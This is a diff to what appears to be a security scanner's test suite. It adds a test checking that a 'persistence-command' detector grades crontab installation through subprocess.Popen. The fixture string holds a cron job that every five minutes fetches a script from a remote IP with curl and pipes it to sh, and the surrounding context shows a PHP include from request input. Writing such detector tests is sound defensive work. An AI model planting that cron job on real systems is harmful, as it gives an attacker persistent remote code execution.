@@ -428,3 +428,18 @@ def test_php_allow_list_test_is_read_only_for_a_short_taken_branch():
             f"$p = in_array($_GET{long_index}, $pages, true) ? $_GET{long_index} : 'home';\n"
             "include 'pages/' . $p . '.php';\n")
     assert _by_line("php-include-from-request-input", "index.php", text) == {3: "high"}
+
+
+def test_crontab_fed_through_popen_communicate_or_stdin_write_is_graded_like_run_input():
+    text = ("import subprocess\n"
+            "JOB = '*/5 * * * * curl -fsS http://203.0.113.9/x | sh\\n'\n"
+            "def f(old):\n"
+            "    subprocess.Popen(['crontab', '-'], stdin=subprocess.PIPE).communicate(JOB.encode())\n"
+            "    p = subprocess.Popen(['crontab', '-'], stdin=subprocess.PIPE, text=True)\n"
+            "    p.stdin.write(old)\n"
+            "    p.stdin.write(JOB)\n"
+            "    with subprocess.Popen(['crontab', '-'], stdin=subprocess.PIPE) as q:\n"
+            "        q.communicate(input=old)\n"
+            "    subprocess.Popen(['crontab', '-'], stdin=subprocess.PIPE)\n"
+            "    subprocess.Popen(['cat'], stdin=subprocess.PIPE).communicate(JOB)\n")
+    assert _by_line("persistence-command", "cron.py", text) == {4: "critical", 5: "critical", 8: "medium"}
